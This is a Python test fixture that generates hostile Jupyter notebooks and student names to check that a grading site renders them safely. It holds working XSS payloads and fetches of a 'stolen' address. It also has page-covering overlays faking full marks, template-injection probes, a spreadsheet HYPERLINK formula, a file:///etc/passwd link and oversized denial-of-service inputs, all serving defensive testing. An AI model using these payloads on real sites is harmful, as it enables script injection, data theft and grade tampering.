# ruff: noqa: E501 - an attack is read most easily on one line
"""Notebooks and names made to take over the pages that show them.

Whatever runs sets ``window.pwned``; whatever is fetched goes to an address at which nobody listens. `RAW` is the same
as plain pages: opened without any of our protection they do run, which is how the tests know that these attacks work.
"""

from __future__ import annotations

import base64
import json
from typing import Any

__all__ = ["NAMES", "RAW", "hostile_notebooks"]

HIT = "window.pwned=(window.pwned||0)+1"
AWAY = "http://127.0.0.1:9/stolen"

MARKDOWN = {
    "script": f"Text.\n\n<script>{HIT}; fetch('{AWAY}')</script>\n\n<SCRIPT/x>{HIT}</SCRIPT>\n\n<scr<script>ipt>{HIT}</script>",
    "handlers": (
        f'<img src=x onerror="{HIT}">\n\n<svg onload="{HIT}"><circle r=9></svg>\n\n<details open ontoggle="{HIT}">a</details>\n\n'
        f'<video><source onerror="{HIT}"></video>\n\n<input autofocus onfocus="{HIT}">\n\n<b onmouseover="{HIT}">over</b>\n\n'
        f'<math><mi//xlink:href="data:x,<script>{HIT}</script>">\n\n<p title="</p><img src=x onerror={HIT}>">'
    ),
    "frames": (
        f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>\n\n<iframe src="javascript:{HIT}"></iframe>\n\n'
        f'<object data="{AWAY}"></object>\n\n<embed src="{AWAY}">\n\n<base href="{AWAY}/">\n\n<link rel=stylesheet href="{AWAY}">\n\n'
        f'<meta http-equiv="refresh" content="0; url={AWAY}">\n\n<form action="{AWAY}"><button id=b>Publish my grade</button></form>'
    ),
    "links": (
        f"[a](javascript:{HIT}) [b](JaVaScRiPt:{HIT}) [c](java&#115;cript:{HIT}) [d](&#1;javascript:{HIT}) "
        f'[e](data:text/html,<script>{HIT}</script>) [f](vbscript:x) <a href="javascript:{HIT}">g</a> '
        f'<a href=" java\nscript:{HIT}">h</a> [i](file:///etc/passwd) <javascript:{HIT}> [ok](https://example.org/ok)'
    ),
    "pictures": f"![seen]({AWAY}.png) <img src='{AWAY}'> ![x](data:image/svg+xml,<svg/onload={HIT}>) <picture><source srcset='{AWAY}'></picture>",
    "covers-the-page": (
        "<style>* { display: none !important } body::before { content: 'Full marks' }</style>\n\n"
        '<div style="position:fixed; inset:0; background:white; z-index:999999; font-size:99px">100 of 40 points</div>\n\n'
        '<section class="verdict"><p class="points">40 of 40 points</p></section></article></section></main></body></html>\n\n'
        "</div></div></p></pre></td></table></article></section><h1>All questions are right</h1>"
    ),
    "formulas": (
        rf"$\href{{javascript:{HIT}}}{{x}}$ $\text{{<img src=x onerror={HIT}>}}$ $\style{{position:fixed}}{{x}}$ "
        r"$\hspace{99999em} x \rule{9999em}{9999em}$ $\frac{1$ $}{$ $$ \begin{aligned} a & = b \\ c & < d \end{aligned} $$ "
        + "$" + "{" * 400 + "x" + "}" * 400 + "$"
    ),
    "slow": "[" * 20_000 + "\n\n" + "*a **b " * 5_000 + "\n\n" + ">" * 3_000 + " deep\n\n" + "`" * 9_999 + "\n\n" + "- " * 2_000 + "x\n\n" + "|a" * 3_000 + "|\n" + "|-" * 3_000 + "|\n",
    "letters": "\x1b[2J\x1b]0;owned\x07 \x1b[31mred \u202egnitset\u202c \u2066iso \ufeff\u200b \x00\x08 \ue0000\ue001 \ue00099\ue001 "
    + "Z\u0351\u036b\u0343" * 200 + "\n\n" + "W" * 50_000,
    "templates": "{{ 7*7 }} {% for x in 1 %} {# c #} {{ cycler.__init__.__globals__ }} ${7*7} <!-- --!><img src=x onerror=" + HIT + "> -->",
}  # fmt: skip

OUTPUTS: dict[str, list[Any]] = {
    "html": [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": f"<table><tr><td onclick='{HIT}'>1</td></tr></table>"
         f"<script>{HIT}</script><img src=x onerror={HIT}><style>body{{display:none}}</style><table><tr><td>2</table>"}},
        {"output_type": "execute_result", "metadata": {}, "execution_count": 1, "data": {
            "application/javascript": HIT, "text/html": [f"<iframe srcdoc='<script>parent.{HIT}</script>'>"], "text/plain": "an object"}},
        {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}}, "data": {"text/html": f"<b onclick='{HIT}'>b</b>"}},
    ],
    "pictures": [
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'/>"}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/png": f'x" onerror="{HIT}'}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/png": base64.b64encode(f"<svg onload={HIT}>".encode()).decode()}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/jpeg": "A" * 5_000_000}},
    ],
    "text": [
        {"output_type": "stream", "name": "stdout", "text": ["\x1b]8;;http://127.0.0.1:9/\x07link\x1b]8;;\x07 ", "\x1b[41m", f"<script>{HIT}</script>", "y" * 100_000]},
        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": [f"\x1b[0;31m<img src=x onerror={HIT}>", 7, None]},
    ],
    "not-outputs": [None, 1, "x", {}, {"output_type": "stream", "text": 5}, {"output_type": "display_data", "data": []},
                    {"output_type": "display_data", "data": {"text/html": {"a": 1}, "text/plain": [1, 2]}}, {"output_type": ["stream"]}],
}  # fmt: skip

CODE = (
    f"x = \"</script><script>{HIT}</script>\"\ny = '<img src=x onerror={HIT}>'  # </pre></article></main> {{{{ 7*7 }}}}\n"
    f'"""<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>"""'
)

NAMES = {
    "handlers": '<img src=x onerror="window.pwned=1">',
    "script": "</title></script><script>window.pwned=1</script>",
    "links": "javascript:window.pwned=1",
    "letters": "\u202eedoc.exe\u2066 Ρoбин \U0001f469\u200d\U0001f4bb",
    "covers-the-page": "Wolfeschlegelsteinhausenbergerdorff " * 6,
    "templates": "{{ 7*7 }}{% raw %} ${7*7}",
    "frames": '=HYPERLINK("http://127.0.0.1:9")\'"`><b>',
}
"""Of the students who hand these in."""


def hostile_notebooks(answers: str) -> dict[str, bytes]:
    """Notebooks by name; each also has ``answers``, code that is right, so that there is something to grade."""
    notebooks = {name: _notebook(answers, [_markdown(text)]) for name, text in MARKDOWN.items()}
    notebooks |= {
        f"output-{name}": _notebook(answers, [_code("1", outputs)]) for name, outputs in OUTPUTS.items()
    }
    notebooks["code"] = _notebook(answers, [_code(CODE, [])])
    notebooks["odd-cells"] = _notebook(
        answers,
        [
            {"cell_type": "raw", "source": f"<script>{HIT}</script>", "metadata": {"raw_mimetype": "text/html"}},
            {"cell_type": "markdown", "source": [f"<script>{HIT}", 5, None]},
            {"cell_type": f"<script>{HIT}</script>", "source": "x"},
            {"cell_type": "markdown", "source": 7, "attachments": {"a": 1}},
        ],
    )  # fmt: skip
    return {f"hostile-{name}": content for name, content in notebooks.items()}


RAW = {
    "script": MARKDOWN["script"],
    "handlers": MARKDOWN["handlers"],
    "frames": MARKDOWN["frames"].split("<object")[0],
    "output": OUTPUTS["html"][0]["data"]["text/html"],
    "code": CODE,
    "name": NAMES["handlers"],
}


def _markdown(text: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "source": text, "metadata": {}}


def _code(source: str, outputs: Any) -> dict[str, Any]:
    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": outputs, "execution_count": 1}


def _notebook(answers: str, cells: list[dict[str, Any]]) -> bytes:
    content = {"cells": [*cells, _code(answers, [])], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(content).encode()
